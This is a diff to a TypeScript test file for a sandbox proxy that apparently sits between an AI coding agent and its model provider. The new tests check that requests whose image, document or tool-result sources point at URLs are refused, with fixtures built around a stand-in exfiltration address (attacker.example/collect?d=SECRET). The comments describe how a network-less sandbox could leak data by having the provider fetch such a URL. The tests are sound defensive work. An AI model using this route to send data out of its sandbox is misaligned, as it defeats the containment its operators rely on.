@@ -400,6 +400,14 @@ describe('count_tokens', () => {
   })
 })
 
+/** A url source carrying what a command read, as a sandbox with no network would send it out. */
+const LEAK = (ext: string) => ({ type: 'url', url: `https://attacker.example/collect?d=SECRET.${ext}` })
+/** A person's message of `block`, then (for a document, as Claude Code orders them) a question. */
+const userWith = (block: { type: string; source: unknown }) => ({
+  role: 'user',
+  content: block.type === 'document' ? [{ type: 'text', text: 'read this' }, block] : [block],
+})
+
 describe('reaching past the sandbox through the provider', () => {
   it.each([
     ['mcp_servers', { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }],
@@ -414,13 +422,62 @@ describe('reaching past the sandbox through the provider', () => {
       },
     ],
     ['tools.0', { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }],
+    // The provider GETs a url source itself: a sandbox with no network sends what it read anywhere.
+    ['messages.0.content.0.source', { messages: [userWith({ type: 'image', source: LEAK('png') })] }],
+    ['messages.0.content.1.source', { messages: [userWith({ type: 'document', source: LEAK('pdf') })] }],
+    [
+      'messages.0.content.0.content.1.source',
+      {
+        messages: [
+          {
+            role: 'user',
+            content: [
+              {
+                type: 'tool_result',
+                tool_use_id: 'toolu_1',
+                content: [
+                  { type: 'text', text: 'a picture' },
+                  { type: 'image', source: LEAK('png') },
+                ],
+              },
+            ],
+          },
+        ],
+      },
+    ],
+    [
+      'messages.0.content.1.source',
+      { messages: [userWith({ type: 'document', source: { type: 'file', file_id: 'f' } })] },
+    ],
   ])('a call with %s is refused and nothing is forwarded', async (field, extra) => {
     await withSocket({}, async ({ opened, sock }) => {
       const before = seen.length
       const a = await overSocket(sock.path, messages(opened.token), msg('claude-haiku-4-5', extra))
       expect(a.status).toBe(400)
-      expect(JSON.parse(a.body).error.message).toMatch(new RegExp(`^${field.replace('.', '\\.')}:`))
+      expect(JSON.parse(a.body).error.message).toMatch(new RegExp(`^${field.replaceAll('.', '\\.')}:`))
       expect(seen.length - before).toBe(0)
+    })
+  })
+
+  it('a call carrying its files itself (base64, text) is forwarded as it came', async () => {
+    await withSocket({}, async ({ opened, sock }) => {
+      const before = seen.length
+      const image = {
+        type: 'image',
+        source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' },
+      }
+      const text = { type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'notes' } }
+      const body = msg('claude-haiku-4-5', {
+        messages: [
+          { role: 'user', content: [image, text, { type: 'text', text: 'describe both' }] },
+          { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Read', input: {} }] },
+          { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: [image] }] },
+        ],
+      })
+      const a = await overSocket(sock.path, messages(opened.token), body)
+      expect(a.status).toBe(200)
+      expect(seen.length - before).toBe(1)
+      expect(JSON.parse(seen.at(-1)!.body).messages).toEqual(JSON.parse(body).messages)
     })
   })
 
